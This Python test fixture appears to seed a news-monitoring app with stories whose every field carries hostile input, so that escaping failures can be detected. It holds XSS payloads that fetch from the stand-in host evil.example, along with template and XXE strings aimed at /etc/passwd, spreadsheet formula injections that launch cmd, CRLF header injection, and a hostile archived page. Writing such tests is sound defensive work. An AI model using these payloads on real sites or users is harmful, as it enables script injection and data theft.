"""A folder goes in, a desk full of stories that want to do harm comes out: whatever a site can send.

Whoever runs a script of theirs finds `pwned` in the title of the page, a dialog, or a request to evil.example.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from monitor.app import App, open_app
from monitor.domain import Alarm, Mention, Order, Reason, Story, Taken
from monitor.jobs.intake import Intake
from monitor.review import Reader, SavedSearch
from tests.browser.scene import EVENING, environ_of, page
from tests.store.making import made_story

BOOM = "document.title='pwned';alert(1);fetch('http://evil.example/')"
EVILS = {
    "script": f"<script>{BOOM}</script>",
    "handler": f'"><img src=x onerror="{BOOM}"><b onmouseover="{BOOM}" tabindex=0 autofocus onfocus="{BOOM}">',
    "attribute": f"x' onmouseover='{BOOM}' onfocus='{BOOM}' autofocus x='",
    "svg": f'<svg onload="{BOOM}"><animate onbegin="{BOOM}" attributeName=x dur=1s></svg>',
    "closing": f"</title></textarea></style></noscript>--><script>{BOOM}</script>",
    "link": f'<a href="javascript:{BOOM}">click</a> [click](javascript:{BOOM}) <javascript:{BOOM}>',
    "frame": f'<iframe srcdoc="<script>parent.{BOOM}</script>"></iframe><base href="http://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=http://evil.example/"><link rel=stylesheet href=//e.example/>',
    "htmx": f'<p hx-get="http://evil.example/" hx-trigger="load" hx-on:load="{BOOM}">x</p>',
    "template": "{{7*7}} ${7*7} {% include '/etc/passwd' %} #{7*7} %(evil)s {count} {0}",
    "formula": '=HYPERLINK("http://evil.example","click")',
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "headers": "A title\r\nX-Evil: 1\r\nBcc: evil@evil.example\r\n\r\n<script>alert(1)</script>",
    "bidi": "\u202eevil\u2066\u2069\u200f right to left \u202dforced",
    "endless_word": "W" * 10_000,
    "endless_lao": "ກ" * 5_000,
    "marks": "Z" + "\u0301\u0489" * 600 + "algo",
    "records": '"}\n{"id": 0, "title": "forged"}\r\nER  - \r\nTY  - NEWS\r\nTI  - forged\r\n},\n@misc{forged,',
    "cdata": "]]><evil xmlns='http://evil.example/'/><![CDATA[ &evil; <!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "controls": "a\x00b\x07c\x1b[31md\u2028e\ufefff\ud7fb",
}
EVIL_URLS = (
    f"javascript:{BOOM}",
    f"data:text/html,<script>{BOOM}</script>",
    'https://e.vn/"><script>x</script>',
    "//evil.example",
)
A_PAGE = f"""<html><head><title>kept</title><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=/x">
<link rel="stylesheet" href="http://evil.example/a.css"><script>{BOOM};top.location='http://evil.example/'</script>
<script src="http://evil.example/a.js"></script></head><body onload="{BOOM}"><h1>The page as it was</h1>
<img src="http://evil.example/a.png" onerror="{BOOM}"><iframe src="http://evil.example/"></iframe>
<form action="http://evil.example/"><button>Send</button></form><a target="_top" href="http://evil.example/">leave</a>
<video autoplay src="http://evil.example/v"></video><object data="http://evil.example/o"></object>
<style>body {{ background: url(http://evil.example/b.png); }}</style></body></html>"""


def make_hostile(home: Path) -> None:
    """Fill the empty folder `home`."""
    with open_app(environ_of(home), now=lambda: EVENING) as app:
        for at, turn in ((EVENING - timedelta(hours=6), ""), (EVENING - timedelta(hours=1), " twice")):
            _take(app, [evil_story(name, turn) for name in EVILS], at)
        copies = [
            replace(evil_story("script", " twice"), key=f"e.vn:copy{n}", url=url) for n, url in enumerate(EVIL_URLS)
        ]
        _take(app, copies, EVENING - timedelta(minutes=30))
        _work(app)


def evil_story(name: str, turn: str = "") -> Story:
    """A story of that evil in every field that a site can fill."""
    evil, number = EVILS[name], list(EVILS).index(name)
    return made_story(
        f"e.vn:{name}",
        evil + turn,
        url=EVIL_URLS[number % len(EVIL_URLS)],
        source="vietnamplus",
        edition="en",
        title=evil + turn,
        lead=evil + turn,
        paragraphs=(f"A first paragraph{turn}.", evil + turn, evil),
        captions=(evil,),
        byline=evil,
        section=evil,
        tags=(evil, "Lào"),
        published_at=datetime(2026, 3, 12, 2, number, tzinfo=UTC),
        language=evil if name in ("script", "attribute") else "en",
        declared_language=evil,
        reasons=(Reason("office_title", evil, "title"), Reason(evil[:40], "A first", "body")),
        mentions=(Mention("la.government_office", evil, "lead"), Mention(evil[:40], "first", "body")),
        layout=evil[:40],
        dateline=evil,
        signature=evil,
        flags=(evil[:40],),
    )


def _take(app: App, stories: list[Story], at: datetime) -> None:
    run = app.store.start_run(Order("vietnamplus", ("en",)), at=at, pid=1, host="desk", asked_by="schedule")
    with app.archive.writer(run.id, "vietnamplus", at) as writer:
        intake = Intake(app.store, now=lambda: at, run_id=run.id, writer=writer, keeping="all")
        for story in stories:
            intake.take(Taken(story), page("https://e.vn/kept.html", A_PAGE, at))
        intake.close()
    served = {"en": {"feed": f"failed: {EVILS['script']}", "sitemap": "60 entries", EVILS["handler"]: "empty"}}
    app.store.finish_run(run.id, "done", at=at, reason=EVILS["svg"], counts=dict(intake.counts), served=served)


def _work(app: App) -> None:
    """What readers and sites leave elsewhere on the desk."""
    store = app.store
    store.keep_reader(Reader("mai", "reader", EVENING, "mai@office.example"), "$argon2id$none")
    for number, evil in enumerate(EVILS.values(), 1):
        for kind in ("note", "off_beat"):
            store.put_mark(number, "local", kind, evil, at=EVENING)  # type: ignore[arg-type]
        query = {"q": evil[:200], "lang": "en"}
        store.save_search(SavedSearch(0, "local", evil[:80] or "x", query, "none", f"{number:024}", EVENING))
    day = EVENING.date()
    store.hand_over(day, [1, 2], given_by="local", given_to="mai", words=EVILS["closing"], at=EVENING)
    store.keep_alarm(Alarm("silent", EVILS["handler"], EVILS["script"], EVILS["link"], raised_at=EVENING))
